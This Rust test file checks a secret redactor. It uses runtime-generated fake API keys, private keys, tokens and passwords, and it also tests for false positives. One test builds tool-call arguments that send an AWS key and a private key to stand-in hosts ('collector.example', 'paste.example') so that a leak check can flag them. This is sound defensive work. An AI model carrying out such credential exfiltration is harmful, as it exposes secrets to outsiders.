//! Tests of the redactor. Every planted secret is assembled at run time
//! from a deterministic generator, so that no source file of this
//! repository holds a literal secret (and the repository scan below stays
//! meaningful for these files too).

use super::*;
use serde_json::json;
use std::path::{Path, PathBuf};

/// A deterministic stream of characters from `alphabet` (xorshift).
struct Chars {
    state: u64,
}

impl Chars {
    fn new(seed: u64) -> Chars {
        Chars {
            state: seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1,
        }
    }

    fn take(&mut self, alphabet: &str, n: usize) -> String {
        let chars: Vec<char> = alphabet.chars().collect();
        (0..n)
            .map(|_| {
                self.state ^= self.state << 13;
                self.state ^= self.state >> 7;
                self.state ^= self.state << 17;
                chars[(self.state % chars.len() as u64) as usize]
            })
            .collect()
    }
}

const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ";
const BASE32: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const ALNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const BASE64: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const URLSAFE: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const HEX: &str = "0123456789abcdef";

fn aws_key_id(g: &mut Chars) -> String {
    format!("{}{}", ["AK", "IA"].concat(), g.take(BASE32, 16))
}

fn aws_secret(g: &mut Chars) -> String {
    loop {
        let s = g.take(BASE64, 40);
        if aws_secret_ok(&s, 0, 40) {
            return s;
        }
    }
}

fn github_token(g: &mut Chars) -> String {
    format!("{}_{}", "ghp", g.take(ALNUM, 36))
}

fn jwt(g: &mut Chars) -> String {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    use base64::Engine as _;
    let header = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
    let payload = URL_SAFE_NO_PAD.encode(br#"{"sub":"1234567890","name":"Ada","iat":1516239022}"#);
    format!("{header}.{payload}.{}", g.take(URLSAFE, 43))
}

fn pem_block(g: &mut Chars, label: &str) -> String {
    let body: Vec<String> = (0..6).map(|_| g.take(BASE64, 64)).collect();
    format!(
        "-----{} {label} {}-----\n{}\n-----{} {label} {}-----",
        "BEGIN",
        "PRIVATE KEY",
        body.join("\n"),
        "END",
        "PRIVATE KEY"
    )
}

/// `redact_text` with an owned result.
fn redact_owned(text: &str, field: &str) -> (String, Vec<Redaction>) {
    let (out, report) = redact_text(text, field);
    (out.into_owned(), report)
}

fn rules_of(text: &str) -> Vec<SecretRule> {
    redactor().find(text).into_iter().map(|m| m.rule).collect()
}

#[test]
fn aws_access_key_and_secret_key_are_redacted() {
    let mut g = Chars::new(1);
    let (id, secret) = (aws_key_id(&mut g), aws_secret(&mut g));
    let text = format!(
        "[default]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\nregion = eu-west-1\n"
    );
    let (out, report) = redact_owned(&text, "/output/text");
    assert!(!out.contains(&id) && !out.contains(&secret), "{out}");
    assert_eq!(
        out,
        "[default]\naws_access_key_id = [REDACTED:aws_access_key_id]\naws_secret_access_key = [REDACTED:aws_secret_key]\nregion = eu-west-1\n"
    );
    assert_eq!(
        report,
        [
            Redaction {
                rule: SecretRule::AwsAccessKeyId,
                field: "/output/text".into(),
                count: 1
            },
            Redaction {
                rule: SecretRule::AwsSecretKey,
                field: "/output/text".into(),
                count: 1
            },
        ]
    );
    // Environment form, JSON form of `aws sts`, and a credentials CSV where
    // only the pairing gives the secret away.
    let env = format!("export AWS_SECRET_ACCESS_KEY=\"{secret}\"");
    assert_eq!(rules_of(&env), [SecretRule::AwsSecretKey]);
    let sts = format!(r#"{{"AccessKeyId": "{id}", "SecretAccessKey": "{secret}"}}"#);
    assert_eq!(
        rules_of(&sts),
        [SecretRule::AwsAccessKeyId, SecretRule::AwsSecretKey]
    );
    let csv = format!("User name,Access key ID,Secret access key\nci,{id},{secret}\n");
    assert_eq!(
        rules_of(&csv),
        [SecretRule::AwsAccessKeyId, SecretRule::AwsSecretKey]
    );
    // A 40-character run alone, with no AWS context, is not enough.
    assert_eq!(rules_of(&format!("value {secret} here")), []);
}

#[test]
fn pem_and_openssh_private_keys_are_redacted() {
    let mut g = Chars::new(2);
    for label in ["RSA", "EC", "OPENSSH", "ENCRYPTED"] {
        let block = pem_block(&mut g, label);
        let text = format!("config:\n{block}\nafter");
        let (out, report) = redact_owned(&text, "stdout");
        assert_eq!(out, "config:\n[REDACTED:private_key]\nafter", "{label}");
        assert_eq!(report[0].rule, SecretRule::PrivateKey);
    }
    // Unlabelled PKCS#8 and a key cut off by truncation (no END line).
    let block = pem_block(&mut g, "").replace("  ", " ");
    assert_eq!(rules_of(&block), [SecretRule::PrivateKey]);
    let cut = &block[..block.len() / 2];
    let text = format!("x {cut}");
    let (out, _) = redact_owned(&text, "");
    assert_eq!(out, "x [REDACTED:private_key]");
    // Public keys and certificates are not secrets.
    let public = pem_block(&mut g, "").replace("PRIVATE KEY", "PUBLIC KEY");
    assert_eq!(rules_of(&public), []);
}

#[test]
fn a_real_openssh_private_key_is_redacted() {
    let dir = tempfile::tempdir().unwrap();
    let status = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f", "k"])
        .current_dir(dir.path())
        .status()
        .expect("ssh-keygen runs (apt-get install -y openssh-client)");
    assert!(status.success());
    let key = std::fs::read_to_string(dir.path().join("k")).unwrap();
    let public = std::fs::read_to_string(dir.path().join("k.pub")).unwrap();
    let mut output = json!({"path": "k", "lines": [{"number": 1, "text": key}], "public": public});
    let report = redact_json(&mut output);
    assert_eq!(output["lines"][0]["text"], "[REDACTED:private_key]\n");
    assert_eq!(output["public"], public, "the public key stays");
    assert_eq!(
        report,
        [Redaction {
            rule: SecretRule::PrivateKey,
            field: "/lines/0/text".into(),
            count: 1
        }]
    );
}

#[test]
fn github_tokens_and_jwts_are_redacted() {
    let mut g = Chars::new(3);
    let token = github_token(&mut g);
    let (out, _) = redact_owned(
        &format!("git clone https://x-access-token:{token}@github.com/o/r"),
        "",
    );
    assert!(!out.contains(&token), "{out}");
    assert_eq!(
        rules_of(&format!("GITHUB_TOKEN={token}")),
        [SecretRule::GithubToken]
    );
    let fine_grained = format!("github_pat_{}_{}", g.take(ALNUM, 22), g.take(ALNUM, 59));
    assert_eq!(rules_of(&fine_grained), [SecretRule::GithubToken]);

    let jwt = jwt(&mut g);
    let (out, report) = redact_owned(&format!("Cookie: session={jwt}; Path=/"), "body");
    assert_eq!(out, "Cookie: session=[REDACTED:jwt]; Path=/");
    assert_eq!(report[0].rule, SecretRule::Jwt);
    // Three base64url segments whose header is not a JWT header are not a JWT.
    use base64::Engine as _;
    let not_header = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(br#"{"x":1}"#);
    let fake = format!("{not_header}.eyJhYmMiOiJkZWYifQ.{}", g.take(URLSAFE, 20));
    assert_eq!(rules_of(&fake), []);
}

/// One planted example of every rule without a test of its own.
fn planted_examples() -> Vec<(String, SecretRule)> {
    let mut g = Chars::new(4);
    vec![
        (format!("glpat-{}", g.take(URLSAFE, 20)), SecretRule::GitlabToken),
        (format!("xoxb-{}-{}-{}", g.take("0123456789", 12), g.take("0123456789", 13), g.take(ALNUM, 24)), SecretRule::SlackToken),
        (format!("xapp-1-{}-{}", g.take(UPPER, 11), g.take(HEX, 64)), SecretRule::SlackToken),
        (format!("https://hooks.slack.com/services/T{}/B{}/{}", g.take(UPPER, 8), g.take(UPPER, 10), g.take(ALNUM, 24)), SecretRule::SlackWebhook),
        (format!("{}_live_{}", "sk", g.take(ALNUM, 24)), SecretRule::StripeKey),
        (format!("whsec_{}", g.take(ALNUM, 32)), SecretRule::StripeKey),
        (format!("AIza{}", g.take(URLSAFE, 35)), SecretRule::GoogleApiKey),
        (format!("GOCSPX-{}", g.take(URLSAFE, 28)), SecretRule::GoogleOauthSecret),
        (format!("sk-proj-{}", g.take(URLSAFE, 120)), SecretRule::OpenaiApiKey),
        (format!("sk-{}T3BlbkFJ{}", g.take(ALNUM, 20), g.take(ALNUM, 20)), SecretRule::OpenaiApiKey),
        (format!("sk-ant-api03-{}", g.take(URLSAFE, 95)), SecretRule::AnthropicApiKey),
        (format!("hf_{}", g.take("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", 34)), SecretRule::HuggingfaceToken),
        (format!("npm_{}", g.take(ALNUM, 36)), SecretRule::NpmToken),
        (format!("pypi-AgEIcHlwaS5vcmc{}", g.take(URLSAFE, 70)), SecretRule::PypiToken),
        (format!("SG.{}.{}", g.take(URLSAFE, 22), g.take(URLSAFE, 43)), SecretRule::SendgridKey),
        (format!("dop_v1_{}", g.take(HEX, 64)), SecretRule::DigitaloceanToken),
        (format!("shpat_{}", g.take(HEX, 32)), SecretRule::ShopifyToken),
        (format!("DefaultEndpointsProtocol=https;AccountName=acct;AccountKey={}==;EndpointSuffix=core.windows.net", g.take(BASE64, 86)), SecretRule::AzureStorageKey),
        (format!("{}:AA{}", g.take("0123456789", 10), g.take(URLSAFE, 33)), SecretRule::TelegramBotToken),
        (format!("https://discord.com/api/webhooks/{}/{}", g.take("0123456789", 18), g.take(URLSAFE, 68)), SecretRule::DiscordWebhook),
        (format!("Authorization: Bearer {}", g.take(URLSAFE, 32)), SecretRule::AuthorizationHeader),
        (format!("postgres://app:{}@db.internal:5432/prod", g.take(ALNUM, 16)), SecretRule::ConnectionStringPassword),
        (format!("machine api.example.com login deploy password {}", g.take(ALNUM, 14)), SecretRule::NetrcPassword),
        (format!("DB_PASSWORD={}!{}", g.take(ALNUM, 10), g.take("0123456789", 3)), SecretRule::SecretAssignment),
        (format!("api_key: \"{}\"", g.take(ALNUM, 32)), SecretRule::SecretAssignment),
        (format!("\"client_secret\": \"{}\"", g.take(URLSAFE, 40)), SecretRule::SecretAssignment),
    ]
}

#[test]
fn every_rule_has_a_planted_example() {
    let cases = planted_examples();
    let mut seen = std::collections::BTreeSet::new();
    for (text, rule) in &cases {
        let found = rules_of(text);
        assert_eq!(found, [*rule], "{text}");
        let (out, _) = redact_owned(text, "");
        assert!(out.contains(&marker(*rule)), "{text} → {out}");
        seen.insert(*rule);
    }
    // With the tests above, every rule is exercised.
    seen.extend([
        SecretRule::PrivateKey,
        SecretRule::AwsAccessKeyId,
        SecretRule::AwsSecretKey,
        SecretRule::GithubToken,
        SecretRule::Jwt,
    ]);
    let all: std::collections::BTreeSet<SecretRule> = RULES.iter().map(|r| r.rule).collect();
    assert_eq!(seen, all);
}

#[test]
fn context_is_kept_and_only_the_secret_goes() {
    let mut g = Chars::new(5);
    let pw = format!("{}#{}", g.take(ALNUM, 9), g.take("0123456789", 4));
    let (out, _) = redact_owned(&format!("mysql://root:{pw}@10.0.0.5/app?ssl=true"), "");
    assert_eq!(
        out,
        "mysql://root:[REDACTED:connection_string_password]@10.0.0.5/app?ssl=true"
    );
    let (out, _) = redact_owned(&format!("password = '{pw}' # prod"), "");
    assert_eq!(out, "password = '[REDACTED:secret_assignment]' # prod");
}

#[test]
fn json_member_names_give_context() {
    let mut g = Chars::new(6);
    let secret = aws_secret(&mut g);
    let pw = format!("{}-{}", g.take(ALNUM, 8), g.take("0123456789", 4));
    let bearer = format!("Bearer {}", g.take(URLSAFE, 30));
    let mut value = json!({
        "config": {
            "aws_secret_access_key": secret,
            "db": {"password": pw, "user": "app", "host": "db.internal"},
            "tokens": [github_token(&mut g), "short"],
        },
        "headers": [
            {"name": "authorization", "value": bearer},
            {"name": "content-type", "value": "application/json; charset=utf-8"},
        ],
        "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "count": 3,
    });
    let report = redact_json(&mut value);
    assert_eq!(
        value["config"]["aws_secret_access_key"],
        "[REDACTED:aws_secret_key]"
    );
    assert_eq!(
        value["config"]["db"]["password"],
        "[REDACTED:secret_assignment]"
    );
    assert_eq!(value["config"]["db"]["user"], "app");
    assert_eq!(value["config"]["tokens"][0], "[REDACTED:github_token]");
    assert_eq!(value["config"]["tokens"][1], "short");
    assert_eq!(
        value["headers"][0]["value"],
        "[REDACTED:authorization_header]"
    );
    assert_eq!(
        value["headers"][1]["value"],
        "application/json; charset=utf-8"
    );
    assert_eq!(
        value["sha256"],
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    );
    let fields: Vec<(&str, &str)> = report
        .iter()
        .map(|r| (r.rule.id(), r.field.as_str()))
        .collect();
    assert_eq!(
        fields,
        [
            ("aws_secret_key", "/config/aws_secret_access_key"),
            ("secret_assignment", "/config/db/password"),
            ("github_token", "/config/tokens/0"),
            ("authorization_header", "/headers/0/value"),
        ]
    );
    // Redacting again finds nothing: markers are not secrets.
    assert_eq!(redact_json(&mut value), []);
}

#[test]
fn counts_repeat_secrets_per_field() {
    let mut g = Chars::new(7);
    let text = format!(
        "{} and {} and {}",
        github_token(&mut g),
        github_token(&mut g),
        jwt(&mut g)
    );
    let (out, report) = redact_owned(&text, "/text");
    assert_eq!(
        out,
        "[REDACTED:github_token] and [REDACTED:github_token] and [REDACTED:jwt]"
    );
    assert_eq!(report.len(), 2);
    assert_eq!(report[0].count, 2);
    assert_eq!(report[1].count, 1);
}

#[test]
fn exfiltration_through_arguments_is_detected() {
    let mut g = Chars::new(8);
    let id = aws_key_id(&mut g);
    let args = json!({"url": format!("https://collector.example/c?k={id}"), "max_bytes": 100});
    let found = contains_secret(&args);
    assert_eq!(
        found,
        [Redaction {
            rule: SecretRule::AwsAccessKeyId,
            field: "/url".into(),
            count: 1
        }]
    );
    // Nothing is changed by the check.
    assert!(args["url"].as_str().unwrap().contains(&id));
    let pem = pem_block(&mut g, "RSA");
    let body = json!({"url": "https://paste.example/new", "body": pem});
    assert_eq!(contains_secret(&body)[0].rule, SecretRule::PrivateKey);
    let clean = json!({"url": "https://docs.rs/regex/latest/regex/", "timeout_ms": 5000});
    assert_eq!(contains_secret(&clean), []);
}

#[test]
fn identifiers_digests_and_ordinary_values_are_not_secrets() {
    let texts = [
        // git SHA-1 and SHA-256 object ids, digests in observations.
        "commit 3f786850e387550fdab836ed7e6dc881de23001b",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        r#"{"sha256_before": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}"#,
        "call_id 0b5e3c1c-6f5a-4d5e-9d8e-2b7c1f0e4a11 finished",
        "Idempotency-Key: 8f14e45fceea167a5a36dedd4bea2543",
        // Code that names secrets without holding one.
        "let password: String = read_password()?;",
        "fn verify(token: &Token, key: &RootKey) -> Result<(), Error>",
        "password = os.environ['DB_PASSWORD']",
        "api_key = config.api_key",
        "token = getToken();",
        "const secret = process.env.SECRET;",
        "if let Some(token) = self.token.as_ref() {",
        "password=${PASSWORD}",
        "api_key: <your-api-key>",
        "secret: ********",
        "password: changeme",
        // Connection strings without a real password.
        "postgres://toolhost:toolhost@127.0.0.1:5432/toolhost",
        "postgres://$ROLE:$PASSWORD@127.0.0.1:$port/$DATABASE",
        "https://user@example.com/path",
        "redis://localhost:6379/0",
        // Base64 that is not a key, long hex, URLs, version strings.
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "https://docs.rs/wasmtime/48.0.8/wasmtime/struct.Config.html",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice",
        "the token budget is 4096 tokens; the key: value pairs are sorted",
        "Authorization: Bearer <token>",
    ];
    for text in texts {
        assert_eq!(rules_of(text), [], "{text}");
    }
}

fn collect_files(dir: &Path, extensions: &[&str], out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
    entries.sort();
    for path in entries {
        let name = path.file_name().unwrap_or_default().to_string_lossy();
        if name.starts_with('.') || name == "target" || name == "node_modules" {
            continue;
        }
        if path.is_dir() {
            collect_files(&path, extensions, out);
        } else if extensions.iter().any(|e| name.ends_with(e)) {
            out.push(path);
        }
    }
}

/// False positives matter: nothing in this repository's own text —
/// README, docs, WIT, schemas, every Rust source and test, scripts — is a
/// secret, and none may be flagged.
#[test]
fn this_repository_is_not_flagged() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap();
    let mut files = Vec::new();
    collect_files(
        root,
        &[
            ".rs", ".md", ".wit", ".json", ".toml", ".sh", ".py", ".js", ".yml", ".yaml",
        ],
        &mut files,
    );
    collect_files(&root.join(".ci"), &["run", ".sh"], &mut files);
    assert!(
        files.len() > 50,
        "found only {} files under {}",
        files.len(),
        root.display()
    );
    let mut bytes = 0;
    let mut flagged = Vec::new();
    for file in &files {
        let Ok(text) = std::fs::read_to_string(file) else {
            continue;
        };
        bytes += text.len();
        for m in redactor().find(&text) {
            let line = text[..m.start].lines().count().max(1);
            flagged.push(format!(
                "{}:{line}: {} {:?}",
                file.display(),
                m.rule,
                &text[m.start..m.end.min(m.start + 60)]
            ));
        }
    }
    assert!(bytes > 500_000, "scanned only {bytes} bytes");
    assert!(
        flagged.is_empty(),
        "false positives:\n{}",
        flagged.join("\n")
    );
}

#[test]
fn rule_patterns_are_compiled_only_when_a_trigger_is_seen() {
    let r = Redactor::compile();
    assert_eq!(r.compiled(), 0);
    assert!(r
        .find("fn main() { println!(\"hello\"); }\n".repeat(200).as_str())
        .is_empty());
    assert_eq!(r.compiled(), 0, "a text without triggers compiles nothing");
    let key = aws_key_id(&mut Chars::new(30));
    assert_eq!(r.find(&format!("id {key}")).len(), 1);
    assert_eq!(r.compiled(), 1, "only the access key rule");
    r.compile_all();
    assert_eq!(r.compiled(), RULES.len());
    // A fresh set and a compiled one find the same.
    for (text, rule) in planted_examples() {
        let fresh = Redactor::compile();
        assert_eq!(fresh.find(&text), r.find(&text), "{text}");
        assert_eq!(fresh.find(&text)[0].rule, rule);
    }
}

#[test]
fn the_json_guard_lets_through_every_output_with_something_to_hide() {
    let r = redactor();
    let mut g = Chars::new(31);
    let mut outputs: Vec<Value> = planted_examples()
        .into_iter()
        .map(|(text, _)| json!({"lines": [{"number": 1, "text": text}]}))
        .collect();
    // Member names that make a whole value a secret, `cookie` among them
    // (the one credential header name with no trigger of its own).
    let cookie = g.take(URLSAFE, 24);
    outputs.push(json!({"Cookie": format!("sid={cookie}")}));
    outputs.push(json!({"headers": [{"name": "set-cookie", "value": format!("sid={cookie}")}]}));
    outputs.push(
        json!({"db": {"password": format!("{}-{}", g.take(ALNUM, 8), g.take("0123456789", 4))}}),
    );
    outputs.push(json!({"SecretAccessKey": aws_secret(&mut g)}));
    outputs.push(json!({"k": pem_block(&mut g, "OPENSSH PRIVATE KEY")}));
    outputs.push(json!({"k": jwt(&mut g)}));
    outputs.push(json!({"k": github_token(&mut g)}));
    for value in &outputs {
        let raw = serde_json::to_string(value).unwrap();
        assert!(!redact_json(&mut value.clone()).is_empty(), "{raw}");
        assert!(r.json_may_hold_secret(&raw), "{raw}");
    }

    // Escapes that spell a trigger's character in the JSON text: the
    // guard sees the escape, the walk (over the parsed text) the secret.
    let key = aws_key_id(&mut g);
    let password = g.take(ALNUM, 16);
    for raw in [
        format!(r#"{{"t": "id \u0041{}"}}"#, &key[1..]),
        format!(r#"{{"t": "postgres:\/\/app:{password}@db.internal\/prod"}}"#),
    ] {
        let mut value: Value = serde_json::from_str(&raw).unwrap();
        assert!(!redact_json(&mut value).is_empty(), "{raw}");
        assert!(r.json_may_hold_secret(&raw), "{raw}");
    }

    // And an output with none of them is passed over: a page of hex
    // lines, a digest, numbers, plain words.
    let hex = "0123456789abcdef".repeat(4);
    let page = json!({
        "path": "data/four_kib.txt", "offset": 1, "total_lines": 64, "has_more": false,
        "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "lines": (1..=64).map(|i| json!({"number": i, "text": hex})).collect::<Vec<_>>(),
    });
    let raw = serde_json::to_string(&page).unwrap();
    assert!(!r.json_may_hold_secret(&raw));
    assert_eq!(redact_json(&mut page.clone()), []);
    assert!(!r.json_may_hold_secret(r#"{"text": "a line\twith \"quotes\" and \\ and\nnewlines"}"#));
}

#[test]
fn netrc_passwords_are_redacted_on_one_line_and_over_several() {
    let mut g = Chars::new(38);
    let (one, two) = (g.take(ALNUM, 12), g.take(ALNUM, 9));
    let netrc = format!(
        "machine git.example.com login alice password {one}\n\nmachine ci.example.com\n  login bob\n  password {two}\n"
    );
    let (out, report) = redact_owned(&netrc, "/text");
    assert!(!out.contains(&one) && !out.contains(&two), "{out}");
    assert!(
        out.contains("login alice password [REDACTED:netrc_password]"),
        "{out}"
    );
    assert!(
        out.contains("  password [REDACTED:netrc_password]\n"),
        "{out}"
    );
    assert!(
        report.iter().all(|r| r.rule == SecretRule::NetrcPassword),
        "{report:?}"
    );
    // A lone line from a windowed read is caught too.
    assert_eq!(
        rules_of(&format!("  password {two}")),
        [SecretRule::NetrcPassword]
    );
    // Prose about passwords is not a netrc entry.
    assert_eq!(rules_of("Enter the password twice to confirm it."), []);
    assert_eq!(rules_of("password:"), []);
}

#[test]
fn a_key_block_split_over_array_items_is_redacted_whole() {
    let mut g = Chars::new(40);
    let block = pem_block(&mut g, "RSA");
    let lines: Vec<&str> = block.lines().collect();
    let body: Vec<String> = lines[1..lines.len() - 1]
        .iter()
        .map(|l| l.to_string())
        .collect();
    // file_view's shape: the lines as strings.
    let mut page = json!({"path": "k.pem", "lines": lines.clone()});
    let report = redact_json(&mut page);
    let text = page.to_string();
    for b in &body {
        assert!(!text.contains(b.as_str()), "{text}");
    }
    assert!(report.iter().all(|r| r.rule == SecretRule::PrivateKey));
    assert_eq!(report.len(), lines.len(), "one per item: {report:?}");
    // A window that starts below the BEGIN line and holds the END line.
    let mut window = json!({"lines": lines[3..].to_vec()});
    redact_json(&mut window);
    for b in &body[2..] {
        assert!(!window.to_string().contains(b.as_str()), "{window}");
    }
    // grep_search's shape: one member of each object.
    let matches: Vec<Value> = lines
        .iter()
        .enumerate()
        .map(|(i, l)| json!({"path": "k.pem", "line_number": i + 1, "line": l}))
        .collect();
    let mut out = json!({"matches": matches, "total": lines.len()});
    redact_json(&mut out);
    for b in &body {
        assert!(!out.to_string().contains(b.as_str()), "{out}");
    }
    assert_eq!(out["matches"][0]["path"], "k.pem");
    // The same window as one numbered text (a file_view text).
    let numbered: String = (4..)
        .zip(&lines[3..])
        .map(|(n, l)| format!("{n:>3}\t{l}\n"))
        .collect();
    let (clean, found) = redact_owned(&numbered, "text");
    assert_eq!(clean, "  4\t[REDACTED:private_key]\n", "{found:?}");
    // Lines around a block are kept.
    let mut mixed = json!([
        "fn main() {}",
        lines[0],
        lines[1],
        lines[lines.len() - 1],
        "done"
    ]);
    redact_json(&mut mixed);
    assert_eq!(mixed[0], "fn main() {}");
    assert_eq!(mixed[4], "done");
}

#[test]
fn a_files_text_is_redacted_line_by_line() {
    let mut g = Chars::new(41);
    let block = pem_block(&mut g, "EC");
    let id = aws_key_id(&mut g);
    let text = format!("a\r\nkey_id = {id}\r\n{block}\nz\n");
    let (out, n) = redactor().redact_lines(&text);
    assert_eq!(n, 2);
    assert_eq!(out.lines().count(), text.lines().count(), "{out}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "a");
    assert_eq!(lines[1], "key_id = [REDACTED:aws_access_key_id]");
    assert!(lines[2..lines.len() - 1]
        .iter()
        .all(|l| *l == "[REDACTED:private_key]"));
    assert_eq!(lines[lines.len() - 1], "z");
    assert!(out.contains("\r\n"), "line ends are kept");
    // Nothing to hide: the text itself.
    assert!(matches!(
        redactor().redact_lines("plain\n").0,
        Cow::Borrowed("plain\n")
    ));
}
